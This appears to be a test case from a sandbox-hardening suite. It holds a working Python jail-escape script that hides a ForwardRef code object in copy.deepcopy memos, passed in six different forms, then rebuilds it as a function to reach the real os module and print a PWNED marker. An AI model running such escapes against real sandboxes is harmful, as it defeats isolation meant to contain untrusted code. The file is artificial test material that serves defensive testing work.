# category: builtins-recovery
# attack: copy.deepcopy with a memo in every form (positional, keyword, functools.partial, *args, **kwargs, a dict subclass that records every store): the memo keeps the inner state of a ForwardRef, its code object, which type(agent) runs: the real os
# marker: PWNED-builtins_deepcopy_memo_forms
# expect: ERROR|DONE
# target: runtime
import copy
import functools
import typing

MARK = "PWNED" + "-builtins_deepcopy_memo_forms"
u = chr(95) * 2
EXPR = (
    "[c for c in ()." + u + "class" + u + "." + u + "base" + u + "." + u + "subclasses" + u + "() if c." + u
    + "name" + u + " == 'catch_warnings'][0]()._module." + u + "builtins" + u + "['" + u + "import" + u + "']('os')"
)


class Recorder(dict):
    def __setitem__(self, key, value):
        seen.append(value)
        super().__setitem__(key, value)


seen = []


def agent(observation, configuration):
    return observation.step % configuration.signs


def codes_in(values):
    found = []
    for value in values:
        items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
        found += [item for item in items if repr(item).startswith("<code object")]
    return found


FORMS = {
    "positional": lambda memo: copy.deepcopy(typing.List[EXPR], memo),
    "keyword": lambda memo: copy.deepcopy(typing.List[EXPR], memo=memo),
    "partial": lambda memo: functools.partial(copy.deepcopy, memo=memo)(typing.List[EXPR]),
    "star args": lambda memo: copy.deepcopy(*[typing.List[EXPR], memo]),
    "star kwargs": lambda memo: copy.deepcopy(typing.List[EXPR], **{"memo": memo}),
    "recorder": lambda memo: copy.deepcopy(typing.List[EXPR], Recorder()),
}
for how, form in FORMS.items():
    memo = {}
    seen.clear()
    try:
        form(memo)
        codes = codes_in(list(memo.values()) + seen)
        print(how, "code objects:", len(codes))
        if codes:
            real_os = type(agent)(codes[0], {})()
            print(MARK, how, "real os, pid", real_os.getpid())
    except Exception as exc:
        print(how, "failed:", repr(exc))
